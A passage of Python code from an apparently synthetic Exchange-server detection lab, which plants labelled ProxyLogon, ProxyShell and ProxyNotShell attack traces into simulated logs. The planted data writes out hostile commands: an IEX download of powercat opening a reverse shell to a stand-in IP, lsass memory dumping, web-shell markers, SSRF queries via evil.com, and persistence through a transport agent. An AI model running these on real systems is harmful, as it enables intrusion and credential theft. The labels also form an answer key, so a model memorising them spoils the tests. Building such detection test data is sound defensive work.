            f"{ddi}/SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory",
            None,
        ),
        (
            12.6,
            ecp_cmd("Set-OabVirtualDirectory", [("ExternalUrl", "$null"), ("Identity", ident)]),
            f"{ddi}/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory",
            None,
        ),
    ]
    for off, cmd, url, ecp_rule in ecp_steps:
        t = t2 + timedelta(seconds=off)
        text = traffic.ecp_text(plan.server, t, rnd, cmd, url, admin_sid)
        its = (
            [
                item(
                    "attack",
                    wave,
                    "CVE-2021-27065",
                    ecp_rule,
                    t,
                    match="Set-OabVirtualDirectory.ExternalUrl=''http://f/<script",
                )
            ]
            if ecp_rule
            else []
        )
        add_line(plan, ecp_file(t), t, text, its, wave, "attack")

    # MSExchange Management events for the same cmdlets.
    t_set = t2 + timedelta(seconds=7.4)
    plan.events.append(
        EventPlant(
            EVT_MANAGEMENT,
            mgmt_event(
                plan,
                t_set,
                "Set-OabVirtualDirectory",
                f'-Identity "{oab_guid}" -ExternalUrl "{SHELL_URL}"',
                "Administrator",
                admin_sid,
            ),
            [
                item(
                    "attack",
                    wave,
                    "CVE-2021-27065",
                    "proxylogon.oabvdir_cmdlet",
                    t_set,
                    match="function Page_Load()",
                )
            ],
        )
    )
    plan.events.append(
        EventPlant(
            EVT_MANAGEMENT,
            mgmt_event(
                plan,
                t2 + timedelta(seconds=9.7),
                "Get-OabVirtualDirectory",
                f'-Identity "{oab_guid}"',
                "Administrator",
                admin_sid,
            ),
            [],
        )
    )
    plan.events.append(
        EventPlant(
            EVT_MANAGEMENT,
            mgmt_event(
                plan,
                t2 + timedelta(seconds=12.6),
                "Set-OabVirtualDirectory",
                f'-Identity "{oab_guid}" -ExternalUrl $null',
                "Administrator",
                admin_sid,
            ),
            [],
        )
    )

    # The reset writes the OAB configuration with the script to a web folder: the file (WS-2b) and Sysmon 11.
    t_reset = t2 + timedelta(seconds=9.9)
    shell_rel = f"{OWA_AUTH}/RedirSuiteServerProxy.aspx"
    shell_items = [
        item(
            "attack",
            wave,
            "CVE-2021-27065",
            "proxylogon.oab_config_dump",
            t_reset,
            match="ExternalUrl                     : http://f/<script",
        ),
        # The injected script is itself the HAFNIUM China Chopper shape (detections.md WS-2a).
        item(
            "attack",
            wave,
            "CVE-2021-27065",
            "webshell.chopper",
            t_reset,
            match="function Page_Load(){eval(Request",
        ),
        item("attack", wave, "CVE-2021-27065", "webshell.known_path", t_reset),
    ]
    plan.files.append(FilePlant(shell_rel, oab_config_dump(s, oab_guid), t_reset, shell_items))
    plan.events.append(
        EventPlant(
            EVT_SYSMON,
            sysmon_file(plan, t_reset, W3WP, win_path(shell_rel)),
            [
                item(
                    "attack",
                    wave,
                    "CVE-2021-27065",
                    "webshell.file_drop_event",
                    t_reset,
                    match="RedirSuiteServerProxy.aspx",
                )
            ],
        )
    )

    # CVE-2021-26858: the OAB generator writes to a web folder (PL-5).
    t_oab = t2 + timedelta(minutes=3, seconds=12)
    oab_path = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\discover.aspx"
    add_line(
        plan,
        oabgen_file(t_oab),
        t_oab,
        traffic.oabgen_text(
            t_oab, rnd, f"Download failed and temporary file '{oab_path}' needs to be removed", level="Error"
        ),
        [item("attack", wave, "CVE-2021-26858", "proxylogon.oab_file_write", t_oab, match=oab_path)],
        wave,
        "attack",
    )

    # CVE-2021-26857: the Unified Messaging error and a child of UMWorkerProcess (PL-4).
    t_um = t2 + timedelta(minutes=5, seconds=3)
    plan.events.append(
        EventPlant(
            EVT_APPLICATION,
            EventSpec(
                provider="MSExchange Unified Messaging",
                # Event id as given in our task brief; not checked against a published record.
                # Detections key on provider, level and message (detections.md PL-4), not the id.
                event_id=4007,
                qualifiers=49152,
                level=2,
                task=1,
                channel="Application",
                time=t_um,
                data=(
                    "UMWorkerProcess.exe",
                    "System.InvalidCastException: Unable to cast object of type "
                    "'System.Collections.Generic.SortedSet`1[System.String]' to type 'Microsoft.Exchange.UM.UMCommon.UMReportRawCounters'."
                    "\r\n   at Microsoft.Exchange.UM.UMCore.UMServiceBase.DeserializeUMMessage(Byte[] data)",
                ),
            ),
            [
                item(
                    "attack",
                    wave,
                    "CVE-2021-26857",
                    "proxylogon.um_invalidcast",
                    t_um,
                    match="System.InvalidCastException",
                )
            ],
        )
    )
    um = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe"
    t_umc = t_um + timedelta(seconds=2)
    plan.events.append(
        EventPlant(
            EVT_SYSMON,
            sysmon_process(plan, t_umc, CMD, 'cmd.exe /c "whoami /all"', um, f'"{um}" -pipe 7248 -log 0'),
            [
                item(
                    "attack",
                    wave,
                    "CVE-2021-26857",
                    "proxylogon.um_child_process",
                    t_umc,
                    match="UMWorkerProcess.exe",
                ),
                item(
                    "attack",
                    wave,
                    None,
                    "postexploit.worker_child_process",
                    t_umc,
                    match="UMWorkerProcess.exe",
                ),
            ],
        )
    )

    # Access to the shell (log_formats.md 2.6 item 5, 6) and the commands it ran (PE-3, PE-4, PE-5, PE-1, PE-2).
    pool = "MSExchangeOWAAppPool"
    ta = t2 + timedelta(minutes=31, seconds=5)
    for k, cip in enumerate(("139.162.202.236", "139.162.202.236", "67.205.176.9", "139.162.202.236")):
        t = ta + timedelta(minutes=7 * k, seconds=rnd.randint(0, 40))
        ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/65.0.2345 Safari/537.36"
        fe = iis_text(
            s,
            "443",
            t,
            rnd,
            **_iis_kw(
                cs_method="GET" if k == 0 else "POST",
                cs_uri_stem="/owa/auth/RedirSuiteServerProxy.aspx",
                cs_uri_query="&CorrelationID=<empty>;&cafeReqId=" + _guid(rnd) + ";&encoding=;",
                cs_username="",
                c_ip=cip,
                cs_ua=ua,
                sc_status="200",
                time_taken=str(rnd.randint(100, 300)),
            ),
        )
        add_line(
            plan,
            iis_file("1", t),
            t,
            fe,
            [item("attack", wave, None, "webshell.access", t, match="/owa/auth/RedirSuiteServerProxy.aspx")],
            wave,
            "attack",
        )
        px = proxy_text(
            s,
            "Owa",
            t,
            rnd,
            UrlStem="/owa/auth/RedirSuiteServerProxy.aspx",
            Method="GET" if k == 0 else "POST",
            HttpStatus="200",
            BackEndStatus="200",
            AuthenticationType="",
            IsAuthenticated="false",
            UserAgent=ua,
            ClientIpAddress=cip,
            RoutingType="Unknown",
            ProxyAction="",
            GenericInfo=traffic.generic_info(anonymous=True),
        )
        add_line(
            plan,
            proxy_file("Owa", t),
            t,
            px,
            [item("attack", wave, None, "webshell.access", t, match="/owa/auth/RedirSuiteServerProxy.aspx")],
            wave,
            "attack",
        )

    auth_dir = WIN_INSTALL + "FrontEnd\\HttpProxy\\owa\\auth"
    chopper_name = (
        "".join(
            rnd.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(8)
        )
        + ".aspx"
    )
    chopper_rel = f"{ASPNET_CLIENT}/system_web/{chopper_name}"
    cmds: list[tuple[float, str, str, list[str]]] = [
        (
            0.5,
            CMD,
            f'cmd.exe /c cd /d "{auth_dir}"&whoami&echo [S]&cd&echo [E]',
            ["postexploit.chopper_commands", "postexploit.worker_child_process"],
        ),
        (
            1.5,
            CMD,
            f'cmd.exe /c cd /d "{auth_dir}"&ipconfig /all&echo [S]&cd&echo [E]',
            ["postexploit.chopper_commands", "postexploit.worker_child_process"],
        ),
        (
            8.0,
            CMD,
            "cmd.exe /c C:\\Windows\\Temp\\procdump64.exe -accepteula -ma lsass.exe C:\\windows\\temp\\lsass.dmp",
            ["postexploit.lsass_procdump_cmd", "postexploit.worker_child_process"],
        ),
        (
            15.0,
            "C:\\Windows\\System32\\rundll32.exe",
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\root\\lsass.dmp full",
            ["postexploit.lsass_procdump_cmd", "postexploit.worker_child_process"],
        ),
        (
            28.0,
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell.exe -nop -c \"IEX (New-Object System.Net.Webclient).DownloadString('http://203.0.113.9/powercat.ps1'); "
            'powercat -c 203.0.113.9 -p 443 -e cmd"',
            ["postexploit.hafnium_tooling", "postexploit.worker_child_process"],
        ),
        (
            22.0,
            CMD,
            f"cmd.exe /c cd /d C:\\inetpub\\wwwroot\\aspnet_client&attrib +h +s +r system_web\\{chopper_name}&echo [S]&cd&echo [E]",
            [
                "postexploit.cleanup_hiding",
                "postexploit.chopper_commands",
                "postexploit.worker_child_process",
            ],
        ),
    ]
    for minutes, image, command, rules in cmds:
        t = ta + timedelta(minutes=minutes)
        plan.events.append(
            EventPlant(
                EVT_SYSMON,
                sysmon_process(plan, t, image, command, W3WP, w3wp_cmdline(pool)),
                [item("attack", wave, None, r, t, match=command[:40]) for r in rules],
            )
        )
    # A small uploader page in the OWA theme folder (detections.md WS-2d, SIMPLESEESHARP shape), inert.
    tu = ta + timedelta(minutes=12, seconds=30)
    up_name = "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(6)) + ".aspx"
    up_rel = f"{OWA_AUTH}/Current/{up_name}"
    plan.events.append(
        EventPlant(
            EVT_SYSMON,
            sysmon_file(plan, tu, W3WP, win_path(up_rel)),
            [item("attack", wave, None, "webshell.file_drop_event", tu, match=up_name)],
        )
    )
    plan.files.append(
        FilePlant(
            up_rel,
            uploader_page(),
            tu,
            [
                item("attack", wave, None, "webshell.upload_shell", tu, match="HttpPostedFile"),
                item("attack", wave, None, "webshell.known_path", tu),
            ],
        )
    )

    # The second shell, dropped through the first, and the files left behind.
    tc = ta + timedelta(minutes=18)
    plan.events.append(
        EventPlant(
            EVT_SYSMON,
            sysmon_file(plan, tc, W3WP, win_path(chopper_rel)),
            [item("attack", wave, None, "webshell.file_drop_event", tc, match=chopper_name)],
        )
    )
    plan.files.append(
        FilePlant(
            chopper_rel,
            chopper_page(),
            tc,
            [
                item("attack", wave, None, "webshell.chopper", tc, match="<%eval(Request.Item["),
                item("attack", wave, None, "webshell.known_path", tc),
            ],
        )
    )
    # ASP.NET compiled the Chopper page on its first request; the assembly stays after the page is gone.
    tcd = tc + timedelta(seconds=40)
    app_web = "App_Web_" + "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8))
    tmp_dir = "Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root"
    dll_rel = f"{tmp_dir}/{rnd.getrandbits(32):08x}/{rnd.getrandbits(32):08x}/{app_web}.dll"
    plan.files.append(
        FilePlant(
            dll_rel,
            compiled_page_standin(rnd, app_web, f"~/aspnet_client/system_web/{chopper_name}"),
            tcd,
            [item("attack", wave, None, "webshell.compiled_dll", tcd, match="JScriptEvaluate")],
        )
    )
    td = ta + timedelta(minutes=8, seconds=20)
    plan.files.append(
        FilePlant(
            "Windows/Temp/lsass.dmp",
            minidump(rnd),
            td,
            [item("attack", wave, None, "postexploit.lsass_dump", td)],
        )
    )
    td2 = ta + timedelta(minutes=15, seconds=30)
    plan.files.append(
        FilePlant(
            "root/lsass.dmp", minidump(rnd), td2, [item("attack", wave, None, "postexploit.lsass_dump", td2)]
        )
    )
    # Defender sees the web shell spawning cmd (detections.md section 8 names IISExchgSpawnCMD).
    tdf = ta + timedelta(minutes=0.5, seconds=3)
    plan.events.append(
        EventPlant(
            EVT_DEFENDER,
            defender_detection(
                plan,
                tdf,
                "Behavior:Win32/IISExchgSpawnCMD.A",
                "behavior:_process: " + W3WP,
                W3WP,
                "Suspicious Behavior",
            ),
            [item("attack", wave, None, "postexploit.defender_detection", tdf, match="IISExchgSpawnCMD")],
        )
    )
    # Mailbox access through the Exchange snap-in (detections.md PE-6), from a shell command.
    tsn = ta + timedelta(minutes=33)
    block = (
        "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; "
        "Get-Mailbox -ResultSize Unlimited | Select-Object DisplayName,PrimarySmtpAddress | "
        "Export-Csv C:\\ProgramData\\mb.csv -NoTypeInformation"
    )
    plan.events.append(
        EventPlant(
            EVT_POWERSHELL,
            script_block(plan, tsn, block, level=3),
            [
                item(
                    "attack",
                    wave,
                    None,
                    "postexploit.exchange_snapin",
                    tsn,
                    match="Add-PSSnapin Microsoft.Exchange.Management",
                )
            ],
        )
    )
    # Persistence through a transport agent (detections.md PE-6).
    tta = ta + timedelta(minutes=41)
    agent = "C:\\ProgramData\\Microsoft\\Crypto\\Keys\\TransportHelper.dll"
    for k, (cmdlet, params) in enumerate(
        (
            (
                "Install-TransportAgent",
                f'-Name "Transport Helper" -TransportAgentFactory "TransportHelper.AgentFactory" -AssemblyPath "{agent}"',
            ),
            ("Enable-TransportAgent", '-Identity "Transport Helper"'),
        )
    ):
        tk = tta + timedelta(seconds=20 * k)
        plan.events.append(
            EventPlant(
                EVT_MANAGEMENT,
                mgmt_event(plan, tk, cmdlet, params, "Administrator", admin_sid),
                [item("attack", wave, None, "postexploit.transport_agent", tk, match=cmdlet)],
            )
        )
    # Recon output packed with makecab (detections.md PE-6: MSCF header with ip.txt, arp.txt, system, security).
    trc = ta + timedelta(minutes=24)
    plan.files.append(
        FilePlant(
            "Windows/Temp/sys.cab",
            cabinet(
                [
                    (
                        "ip.txt",
                        b"Windows IP Configuration\r\n\r\n   Host Name . . . . . . . . . . . . : "
                        + s.host.encode()
                        + b"\r\n",
                    ),
                    (
                        "arp.txt",
                        b"\r\nInterface: "
                        + s.address.encode()
                        + b" --- 0x4\r\n  Internet Address      Physical Address      Type\r\n",
                    ),
                    ("system", b"exwatch lab stand-in for a saved registry hive (no real data)\r\n"),
                    ("security", b"exwatch lab stand-in for a saved registry hive (no real data)\r\n"),
                ],
                trc,
            ),
            trc,
            [item("attack", wave, None, "postexploit.recon_cab", trc, match="arp.txt")],
        )
    )
    tz = ta + timedelta(minutes=26)
    plan.events.append(
        EventPlant(
            EVT_SYSMON,
            sysmon_process(
                plan,
                tz,
                "C:\\ProgramData\\7z.exe",
                "C:\\ProgramData\\7z.exe a -tzip C:\\ProgramData\\it.zip C:\\windows\\temp\\lsass.dmp",
                CMD,
                "cmd.exe /c C:\\ProgramData\\7z.exe a -tzip C:\\ProgramData\\it.zip C:\\windows\\temp\\lsass.dmp",
            ),
            [],
        )
    )
    plan.files.append(
        FilePlant(
            "ProgramData/it.zip",
            small_zip({"lsass.dmp": minidump(rnd)[:4096]}, tz),
            tz,
            [item("attack", wave, None, "postexploit.programdata_archive", tz)],
        )
    )


# The /powershell requests also match the ProxyNotShell shape (autodiscover.json, then "owershell"
# within 300 characters, status 200: detections.md PN-1); CVE-2022-41040 is the same SSRF class.
_PS_RULES = ["proxyshell.rps_cat", "proxyshell.autodiscover_success", "proxynotshell.autodiscover_powershell"]


def proxyshell(plan: Plan, t0: datetime) -> None:
    """ProxyShell: autodiscover path confusion (PS-1), X-Rps-CAT to /powershell (PS-2), mailbox export (PS-3)."""
    s = plan.server
    rnd = plan.rnd("proxyshell")
    wave = "proxyshell"
    ip = "198.51.100.23"
    ua = "python-requests/2.26.0"
    email_tail = "&Email=autodiscover/autodiscover.json%3F@evil.com"
    cat = "VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBhFWFdBVENILUlORVJULUZBS0UtVE9LRU5VLVMtMS01LTIxLTUwMEUAAAAA"
    reqs = [
        # offset s, method, query after '?', status, rules
        (0, "GET", f"@evil.com/mapi/nspi/?{email_tail}", "401", ["proxyshell.autodiscover_attempt"]),
        (6, "GET", f"@evil.com/mapi/nspi/?{email_tail}", "200", ["proxyshell.autodiscover_success"]),
        (
            14,
            "POST",
            f"@evil.com/powershell/?X-Rps-CAT={cat}{email_tail}",
            "200",
            _PS_RULES,
        ),
        (
            16,
            "POST",
            f"@evil.com/powershell/?X-Rps-CAT={cat}{email_tail}",
            "200",
            _PS_RULES,
        ),
    ]
    for off, method, query, status, rules in reqs:
        t = t0 + timedelta(seconds=off)
        cves = {
            "proxyshell.rps_cat": "CVE-2021-34523",
            "proxynotshell.autodiscover_powershell": "CVE-2022-41040",
        }
        fe = iis_text(
            s,
            "443",
            t,
            rnd,
            **_iis_kw(
                cs_method=method,
                cs_uri_stem="/autodiscover/autodiscover.json",
                cs_uri_query=query,
                cs_username="",
                c_ip=ip,
                cs_ua=ua,
                sc_status=status,
                time_taken=str(rnd.randint(20, 400)),
            ),
        )
        add_line(
            plan,
            iis_file("1", t),
            t,
            fe,
            [
                item(
                    "attack",
                    wave,
                    cves.get(r, "CVE-2021-34473"),
                    r,
                    t,
                    match="/autodiscover/autodiscover.json " + query[:20],
                )
                for r in rules
            ],
            wave,
            "attack",
        )
        px = proxy_text(
            s,
            "Autodiscover",
            t,
            rnd,
            UrlStem="/autodiscover/autodiscover.json",
            UrlQuery="?" + query,
            Method=method,
            HttpStatus=status,
            BackEndStatus=status,
            AuthenticationType="",
            IsAuthenticated="false",
            UserAgent=ua,
            ClientIpAddress=ip,
            AnchorMailbox="",
            RoutingHint="",
            GenericInfo=traffic.generic_info(anonymous=True),
        )
        add_line(
            plan,
            proxy_file("Autodiscover", t),
            t,
            px,
            [
                item("attack", wave, cves.get(r, "CVE-2021-34473"), r, t, match="?" + query[:20])
                for r in rules
            ],
            wave,
            "attack",
        )

    admin_sid = traffic.users(plan.seed, s.domain)[0].sid.rsplit("-", 1)[0] + "-500"
    shell_name = "".join(rnd.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(14)) + ".aspx"
    shell_rel = f"{ASPNET_CLIENT}/{shell_name}"
    unc = f"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\{shell_name}"
    tr = t0 + timedelta(seconds=40)
    plan.events.append(
        EventPlant(
            EVT_MANAGEMENT,
            mgmt_event(
                plan,
                tr,
                "New-ManagementRoleAssignment",
                '-Name "exwatch-ra-1" -Role "Mailbox Import Export" -User "Administrator"',
                "Administrator",
                admin_sid,
            ),
            [
                item(
                    "attack",
                    wave,
                    "CVE-2021-31207",
                    "proxyshell.export_role_assignment",
                    tr,
                    match='-Role "Mailbox Import Export"',
                )
            ],
        )
    )
    te = t0 + timedelta(seconds=75)
    plan.events.append(
        EventPlant(
            EVT_MANAGEMENT,
            mgmt_event(
                plan,
                te,
                "New-MailboxExportRequest",
                f'-Name "exwatch-ex-1" -Mailbox "administrator@{s.domain}" -IncludeFolders ("#Drafts#") -ContentFilter "(Subject -eq \'exwatch-inert\')" -ExcludeDumpster "True" -FilePath "{unc}"',
                "Administrator",
                admin_sid,
            ),
            [item("attack", wave, "CVE-2021-31207", "proxyshell.mailbox_export", te, match=shell_name)],
        )
    )
    tw = te + timedelta(seconds=9)
    mrs = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeMailboxReplication.exe"
    plan.events.append(
        EventPlant(
            EVT_SYSMON,
            sysmon_file(plan, tw, mrs, win_path(shell_rel)),
            [item("attack", wave, "CVE-2021-31207", "webshell.file_drop_event", tw, match=shell_name)],
        )
    )
    plan.files.append(
        FilePlant(
            shell_rel,
            pst_shell(rnd),
            tw,
            [
                item("attack", wave, "CVE-2021-31207", "proxyshell.pst_shell", tw, match="!BDN"),
                item("attack", wave, "CVE-2021-31207", "webshell.chopper", tw, match="<%eval(Request.Item["),
                item("attack", wave, "CVE-2021-31207", "webshell.known_path", tw),
            ],
        )
    )
    tdf = tw + timedelta(seconds=1)
    plan.events.append(
        EventPlant(
            EVT_DEFENDER,
            defender_detection(
                plan, tdf, "Exploit:Win32/CVE-2021-31207.B", "file:_" + win_path(shell_rel), mrs, "Exploit"
            ),
            [
                item(
                    "attack",
                    wave,
                    "CVE-2021-31207",
                    "postexploit.defender_detection",
                    tdf,
                    match="CVE-2021-31207",
                )
            ],
        )
    )
    tc = te + timedelta(seconds=60)
    plan.events.append(
        EventPlant(
            EVT_MANAGEMENT,
            mgmt_event(
                plan,
                tc,
                "Remove-MailboxExportRequest",
                f'-Identity "administrator@{s.domain}\\exwatch-ex-1" -Confirm "False"',
                "Administrator",
                admin_sid,
            ),
            [
                item(
                    "attack",
                    wave,
                    "CVE-2021-31207",
                    "proxyshell.export_cleanup",
                    tc,
                    match="Remove-MailboxExportRequest",
                )
            ],
        )
    )
    for k in range(3):
        t = tc + timedelta(minutes=2 + 3 * k)
        fe = iis_text(
            s,
            "443",
            t,
            rnd,
            **_iis_kw(
                cs_method="POST",
                cs_uri_stem=f"/aspnet_client/{shell_name}",
                cs_uri_query="",
                cs_username="",
                c_ip=ip,
                cs_ua=ua,
                sc_status="200",
                time_taken=str(rnd.randint(30, 600)),
            ),
        )
        add_line(
            plan,
            iis_file("1", t),
            t,
            fe,
            [item("attack", wave, None, "webshell.access", t, match=f"/aspnet_client/{shell_name}")],
            wave,
            "attack",
        )

    # The certificate-request variant (detections.md PS-3, WS-2c): a DER request file saved as a page.
    tq = tc + timedelta(minutes=14)
    cert_name = "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(10)) + ".aspx"
    cert_rel = f"{ASPNET_CLIENT}/{cert_name}"
    request_file = f"\\\\localhost\\C$\\inetpub\\wwwroot\\aspnet_client\\{cert_name}"
    plan.events.append(
        EventPlant(
            EVT_MANAGEMENT,
            mgmt_event(
                plan,
                tq,
                "New-ExchangeCertificate",
                f'-GenerateRequest "True" -BinaryEncoded "True" -SubjectName "CN=exwatch-inert" -RequestFile "{request_file}"',
                "Administrator",
                admin_sid,
            ),
            [item("attack", wave, "CVE-2021-31207", "proxyshell.cert_request_shell", tq, match=cert_name)],
        )
    )
    tqw = tq + timedelta(seconds=2)
    plan.events.append(
        EventPlant(
            EVT_SYSMON,
            sysmon_file(plan, tqw, W3WP, win_path(cert_rel)),
            [item("attack", wave, "CVE-2021-31207", "webshell.file_drop_event", tqw, match=cert_name)],
        )
    )
    plan.files.append(
        FilePlant(
            cert_rel,
            der_shell(rnd),
            tqw,
            [
                item("attack", wave, "CVE-2021-31207", "proxyshell.pst_shell", tqw, match="Page Language="),
                item("attack", wave, "CVE-2021-31207", "webshell.chopper", tqw, match="<%eval(Request.Item["),
                item("attack", wave, "CVE-2021-31207", "webshell.known_path", tqw),
            ],
        )
    )

    # A virtual directory on a ProgramData device-name folder (detections.md PS-3, Huntress).
    tv = tq + timedelta(minutes=6)
    vdir = '<virtualDirectory path="/COM" physicalPath="C:\\ProgramData\\COM" />'
    plan.files = [f for f in plan.files if f.path != APPHOST_CONFIG]
    plan.files.append(
        FilePlant(
            APPHOST_CONFIG,
            application_host_config(plan.server, vdir),
            tv,
            [
                item(
                    "attack",
                    wave,
                    "CVE-2021-31207",
                    "proxyshell.iis_vdir_config",
                    tv,
                    match='physicalPath="C:\\ProgramData\\COM"',
                )
            ],
        )
    )


def proxynotshell(plan: Plan, t0: datetime) -> None:
    """ProxyNotShell autodiscover to PowerShell (PN-1), OWASSRF (PN-2) and the command it ran (PN-3)."""
    s = plan.server
    rnd = plan.rnd("proxynotshell")
    wave = "proxynotshell"
    ip = "203.0.113.66"
    us = traffic.users(plan.seed, s.domain)
    victim = us[len(us) // 2]
    user = f"{s.netbios}\\{victim.sam}"
    ua = "python-requests/2.28.1"
    query = (
        "@evil.com/owa/&Email=autodiscover/autodiscover.json%3F@evil.com&Protocol=XYZ&FooProtocol=Powershell"
    )
    for off in (0, 2, 3):
        t = t0 + timedelta(seconds=off)
        fe = iis_text(
            s,
            "443",
            t,
            rnd,
            **_iis_kw(
                cs_method="POST",
                cs_uri_stem="/autodiscover/autodiscover.json",
                cs_uri_query=query,
                cs_username=user,
                c_ip=ip,
                cs_ua=ua,
                sc_status="200",
                time_taken=str(rnd.randint(30, 900)),
            ),
        )
        add_line(
            plan,
            iis_file("1", t),
            t,
            fe,
            [
                item(
                    "attack",
                    wave,
                    "CVE-2022-41040",
                    "proxynotshell.autodiscover_powershell",
                    t,
                    match="FooProtocol=Powershell",
                )
            ],
            wave,
            "attack",
        )
        px = proxy_text(
            s,
            "Autodiscover",
            t,
            rnd,
            UrlStem="/autodiscover/autodiscover.json",
            UrlQuery="?" + query,
            Method="POST",
            HttpStatus="200",
            BackEndStatus="200",
            AuthenticationType="Basic",
            IsAuthenticated="true",
            AuthenticatedUser=user,
            UserAgent=ua,
            ClientIpAddress=ip,
            AnchorMailbox=f"Sid~{victim.sid}",
            RoutingHint="WindowsIdentity",
        )
        add_line(
            plan,
            proxy_file("Autodiscover", t),
            t,
            px,
            [
                item(
                    "attack",
                    wave,
                    "CVE-2022-41040",
                    "proxynotshell.autodiscover_powershell",
                    t,
                    match="FooProtocol=Powershell",
                )
            ],
            wave,
            "attack",
        )

    # OWASSRF (detections.md PN-2): /owa/<mailbox>%40<domain>/powershell, Chrome 105 User-Agent of the PoC.
    chrome105 = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.0.0 Safari/537.36"
    to = t0 + timedelta(minutes=12)
    for k in range(3):
        t = to + timedelta(seconds=4 * k)
        fe = iis_text(
            s,
            "443",
            t,
            rnd,
            **_iis_kw(
                cs_method="POST",
                cs_uri_stem="/owa/mastermailbox%40outlook.com/powershell",
                cs_uri_query="&CorrelationID=<empty>;&cafeReqId=" + _guid(rnd) + ";&encoding=;",
                cs_username=user,
                c_ip=ip,
                cs_ua=chrome105,
                sc_status="200",
                time_taken=str(rnd.randint(100, 2000)),
            ),
        )
        add_line(
            plan,
            iis_file("1", t),
            t,
            fe,
            [
                item(
                    "attack",
                    wave,
                    "CVE-2022-41080",
                    "proxynotshell.owassrf",
                    t,
                    match="/owa/mastermailbox%40outlook.com/powershell",
                )
            ],
            wave,
            "attack",
        )
        px = proxy_text(
            s,
            "Owa",
            t,
            rnd,
            UrlStem="/owa/mastermailbox@outlook.com/powershell",
            Method="POST",
            HttpStatus="200",
            BackEndStatus="200",
            AuthenticationType="Basic",
            IsAuthenticated="true",
            AuthenticatedUser=user,
            UserAgent=chrome105,
            ClientIpAddress=ip,
            AnchorMailbox=f"Sid~{victim.sid}",
            RoutingHint="WindowsIdentity",
        )
        add_line(
            plan,
            proxy_file("Owa", t),
            t,
            px,
            [
                item(
                    "attack",
                    wave,
                    "CVE-2022-41080",
                    "proxynotshell.owassrf",
                    t,
                    match="/owa/mastermailbox@outlook.com/powershell",
                )
            ],
            wave,
            "attack",
        )
        tb = t + timedelta(milliseconds=60)
        be = iis_text(
            s,
            "444",
            tb,
            rnd,
            **_iis_kw(
                cs_method="POST",
                cs_uri_stem="/powershell",
                cs_uri_query="",
                cs_username=user,
                c_ip=s.address,
                cs_ua=chrome105,
                sc_status="200",
                time_taken=str(2000 + rnd.randint(0, 999)),
            ),
        )
        add_line(
            plan,
            iis_file("2", tb),
            tb,
            be,
            [
                item(
                    "attack",
                    wave,
                    "CVE-2022-41080",
                    "proxynotshell.owassrf_backend",
                    tb,
                    match="POST /powershell - 444 ",
                )
            ],
            wave,
            "attack",
        )

    # The PowerShell-proxy row of the OWASSRF call (detections.md PN-2; where Exchange writes these rows
    # is not confirmed, we put them in the HttpProxy PowerShell folder).
    tk = to + timedelta(seconds=9)
    px = proxy_text(
        s,
        "PowerShell",
        tk,
        rnd,
        UrlStem="/powershell",
        Method="POST",
        HttpStatus="200",
        BackEndStatus="200",
        AuthenticationType="Kerberos",
        IsAuthenticated="true",
        AuthenticatedUser=user,
        UserAgent=chrome105,
        ClientIpAddress=s.address,
        RoutingHint="WindowsIdentity-NoDatabase",
        GenericInfo=traffic.generic_info() + traffic.RPS_POST_INFO,
    )
    add_line(
        plan,
        proxy_file("PowerShell", tk),
        tk,
        px,
        [
            item(
                "attack",
                wave,
                "CVE-2022-41082",
                "proxynotshell.rps_proxy_kerberos",
                tk,
                match="S:ServiceCommonMetadata.HttpMethod=POST",
            )
        ],
        wave,
        "attack",
    )

    tx = to + timedelta(seconds=20)
    command = 'cmd.exe /c cd /d "c:\\windows\\system32\\inetsrv"&ipconfig&echo [S]&cd&echo [E]'
    plan.events.append(
        EventPlant(
            EVT_SYSMON,
            sysmon_process(plan, tx, CMD, command, W3WP, w3wp_cmdline("MSExchangePowerShellAppPool")),
            [
                item(
                    "attack",
                    wave,
                    "CVE-2022-41082",
                    "postexploit.chopper_commands",
                    tx,
                    match="&ipconfig&echo",
                ),
                item(
                    "attack",
                    wave,
                    "CVE-2022-41082",
                    "postexploit.worker_child_process",
                    tx,
                    match="MSExchangePowerShellAppPool",
                ),
            ],
        )
    )


def lookalikes(plan: Plan) -> None:
    """Benign traces that fooled earlier tools, each with the rule it resembles and the ceiling it allows."""
    s = plan.server
    rnd = plan.rnd("lookalikes")
    span = plan.end - plan.start

    def at(frac: float) -> datetime:
        t = plan.start + span * frac
        return t.replace(microsecond=(t.microsecond // 1000) * 1000)

    # 1. Microsoft's nmap probe (log_formats.md 2.6 item 1).
    t = at(0.11)
    nmap_ip = "192.0.2.15"
    px = proxy_text(
        s,
        "Owa",
        t,
        rnd,
        UrlStem="/owa/auth/x.js",
        Method="GET",
        HttpStatus="500",
        BackEndStatus="500",
        AuthenticationType="FBA",
        IsAuthenticated="false",
        UserAgent="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        ClientIpAddress=nmap_ip,
        AnchorMailbox="ServerInfo~localhost/ecp/default.flt?",
        TargetServer="localhost",
        TargetServerVersion="0.00.0003.000",
        RoutingType="CrossRegion",
        RoutingHint="X-AnonResource-Backend-Cookie",
        GenericInfo=traffic.generic_info(anonymous=True).replace(
            "ProxyToDownLevel=False", "ProxyToDownLevel=True"
        ),
    )
    add_line(
        plan,
        proxy_file("Owa", t),
        t,
        px,
        [
            item(
                "lookalike",
